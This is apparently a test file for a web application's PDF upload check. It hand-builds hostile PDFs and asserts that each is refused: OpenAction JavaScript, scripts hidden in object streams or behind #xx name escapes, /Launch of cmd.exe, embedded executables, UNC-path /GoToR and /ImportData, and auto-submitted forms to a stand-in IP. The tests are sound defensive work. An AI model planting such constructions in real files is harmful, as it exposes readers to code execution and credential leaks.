// What an uploaded PDF may carry (src/uploads/pdf-inspection.ts): crafted here, byte by byte, each
// refused PDF is one a reviewer's viewer would act on. A script hidden in a compressed object
// stream or behind `#xx` escapes in a name is found, because the file is parsed, not grepped.
import { deflateSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  applicationFields,
  applicationFiles,
  createHarness,
  multipart,
  type Harness,
  type TestFile,
} from './harness';
import { pdfOfObjects, streamObject } from '../testing/pdf-bombs';

let h: Harness;
beforeAll(async () => {
  h = await createHarness();
});
afterAll(() => h?.close());

const pdfOf = pdfOfObjects;

const PAGES = [
  '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
  '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>',
];

/** A stream object holding `text` deflated. */
const deflated = (dictionary: string, text: string) =>
  streamObject(dictionary, '/FlateDecode', deflateSync(Buffer.from(text, 'latin1')));

const asPdf = (bytes: Buffer, name = 'doc.pdf'): TestFile => ({
  name,
  type: 'application/pdf',
  bytes,
});

/** A club applies with `committee` as its puja committee document. */
function applyWith(target: Harness, club: { clubId: number; token: string }, committee: Buffer) {
  const body = multipart(
    { club_id: club.clubId, ...applicationFields() },
    applicationFiles({ puja_committee: asPdf(committee) }),
  );
  return target.app.inject({
    method: 'POST',
    url: '/apply-for-noc.php',
    payload: body.payload,
    headers: { ...body.headers, ...target.bearer(club.token) },
  });
}

const CRAFTED: [string, Buffer][] = [
  [
    'an /OpenAction running JavaScript',
    pdfOf([
      '<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>',
      ...PAGES,
      '<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>',
    ]),
  ],
  [
    'a /JS action hidden in a compressed object stream',
    pdfOf([
      '<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>',
      ...PAGES,
      deflated('/Type /ObjStm /N 1 /First 4', '5 0 << /S /JavaScript /JS (this.print\\(\\)) >>'),
    ]),
  ],
  [
    'a name spelled with #xx escapes (/Java#53cript)',
    pdfOf([
      '<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>',
      ...PAGES,
      '<< /S /Java#53cript /J#53 (app.launchURL\\("x"\\)) >>',
    ]),
  ],
  [
    'a link that launches a program (/Launch)',
    pdfOf([
      '<< /Type /Catalog /Pages 2 0 R >>',
      PAGES[0] as string,
      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [4 0 R] >>',
      '<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /Launch /F (cmd.exe) >> >>',
    ]),
  ],
  [
    'an attached file (/EmbeddedFiles)',
    pdfOf([
      '<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >> >>',
      ...PAGES,
      '<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>',
      deflated('/Type /EmbeddedFile', 'MZ'),
    ]),
  ],
  [
    'an XFA form with a script',
    pdfOf([
      '<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [] /XFA 4 0 R >> >>',
      ...PAGES,
      deflated(
        '',
        '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform><field><event activity="initialize">' +
          '<script contentType="application/x-javascript">app.alert(1)</script></event></field></subform></template></xdp:xdp>',
      ),
    ]),
  ],
  [
    'a link to a file on a network share (/GoToR to a UNC path)',
    pdfOf([
      '<< /Type /Catalog /Pages 2 0 R >>',
      PAGES[0] as string,
      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [4 0 R] >>',
      '<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /GoToR /F (\\\\\\\\198.51.100.7\\\\share\\\\x.pdf) /D [0 /Fit] >> >>',
    ]),
  ],
  [
    'a web address opened by itself (/OpenAction /URI)',
    pdfOf([
      '<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /URI /URI (http://198.51.100.7/opened) >> >>',
      ...PAGES,
    ]),
  ],
  [
    'a web address opened by a chained action (/OpenAction /GoTo then /Next /URI)',
    pdfOf([
      '<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>',
      ...PAGES,
      '<< /S /GoTo /D [3 0 R /Fit] /Next [<< /S /URI /URI (http://198.51.100.7/next) >>] >>',
    ]),
  ],
  [
    'a form sent as the page opens (/AA … /SubmitForm)',
    pdfOf([
      '<< /Type /Catalog /Pages 2 0 R >>',
      PAGES[0] as string,
      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /AA << /O << /S /SubmitForm /F << /FS /URL /F (http://198.51.100.7/s) >> /Flags 4 >> >> >>',
    ]),
  ],
  [
    'form data imported from a file (/ImportData)',
    pdfOf([
      '<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /ImportData /F (\\\\\\\\198.51.100.7\\\\d.fdf) >> >>',
      ...PAGES,
    ]),
  ],
  [
    'a Flash or media player (/RichMedia)',
    pdfOf([
      '<< /Type /Catalog /Pages 2 0 R >>',
      PAGES[0] as string,
      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [4 0 R] >>',
      '<< /Type /Annot /Subtype /RichMedia /Rect [0 0 100 100] /RichMediaContent << /Assets << /Names [] >> >> >>',
    ]),
  ],
  [
    'a program launched as the page closes (/AA /C /Launch /Win)',
    pdfOf([
      '<< /Type /Catalog /Pages 2 0 R >>',
      PAGES[0] as string,
      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /AA << /C << /S /L#61unch /Win << /F (cmd.exe) /P (/c calc) >> >> >> >>',
    ]),
  ],
  [
    'a /Launch in the object the cross-reference table names, replaced later in the file',
    pdfOf(
      [
        '<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>',
        ...PAGES,
        '<< /S /Launch /F (cmd.exe) >>',
      ],
      '4 0 obj\n<< /S /GoTo /D [3 0 R /Fit] >>\nendobj\n',
    ),
  ],
  [
    'a /Launch in a stream a viewer reads as an object stream (/N and /First, no /Type)',
    pdfOf([
      '<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>',
      ...PAGES,
      deflated('/N 1 /First 4', '5 0 << /S /Launch /F (cmd.exe) >>'),
    ]),
  ],
  [
    'HTML right after the header',
    Buffer.concat([
      Buffer.from('%PDF-1.4\n<html><body><script>alert(document.cookie)</script></body></html>\n'),
      pdfOf(['<< /Type /Catalog /Pages 2 0 R >>', ...PAGES]).subarray(9),
    ]),
  ],
  [
    'HTML after the end of the PDF',
    pdfOf(['<< /Type /Catalog /Pages 2 0 R >>', ...PAGES], '<script>alert(1)</script>\n'),
  ],
];

describe('PDFs are parsed before they are stored', () => {
  for (const [what, bytes] of CRAFTED) {
    it(`refuses ${what} with a clear message and stores nothing`, async () => {
      const club = await h.club();
      const before = await h.snapshot();
      const res = await applyWith(h, club, bytes);
      expect(res.statusCode).toBe(400);
      expect(res.json()).toMatchObject({
        success: false,
        code: 'validation.pdfActiveContent',
        message:
          'This PDF contains scripts, attached files or automatic actions, which are not allowed. Please print it to a new PDF (or scan the paper) and upload that.',
      });
      expect(await h.snapshot()).toEqual(before);
    });
  }

  it('accepts a PDF that opens at its first page with a web link, and refuses a script on the acknowledgement too', async () => {
    const club = await h.club();
    // A link to a web page is kept: the reader chooses to follow it.
    const opensAtPage = pdfOf([
      '<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>',
      PAGES[0] as string,
      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [4 0 R] >>',
      '<< /Type /Annot /Subtype /Link /Rect [0 0 100 20] /A << /S /URI /URI (https://example.org/) >> >>',
    ]);
    const applied = await applyWith(h, club, opensAtPage);
    expect(applied.statusCode).toBe(201);
    const id = (applied.json().data as { id: number }).id;
    const [, script] = CRAFTED[0] ?? [];
    const refused = await h.uploadAcknowledgement(club, id, asPdf(script as Buffer, 'ack.pdf'));
    expect(refused.statusCode).toBe(400);
    expect(refused.json().code).toBe('validation.pdfActiveContent');
    expect(
      (await h.uploadAcknowledgement(club, id, asPdf(opensAtPage, 'ack.pdf'))).statusCode,
    ).toBe(200);
  });
});

describe('a PDF the parser cannot finish in time', () => {
  let slow: Harness;
  beforeAll(async () => {
    slow = await createHarness({ PDF_CHECK_SECONDS: '0.2' });
  });
  afterAll(() => slow?.close());

  it('is refused as unreadable, and nothing is stored', async () => {
    // 30,000 tiny objects: seconds of parsing, far beyond the 0.2 s allowed here.
    const objects = Array.from({ length: 30_000 }, (_, i) => `<< /N ${i} >>`);
    const club = await slow.club();
    const before = await slow.snapshot();
    const res = await applyWith(slow, club, pdfOf(['<< /Type /Catalog >>', ...objects]));
    expect(res.statusCode).toBe(400);
    expect(res.json().code).toBe('validation.pdfUnreadable');
    expect(await slow.snapshot()).toEqual(before);
  });
});
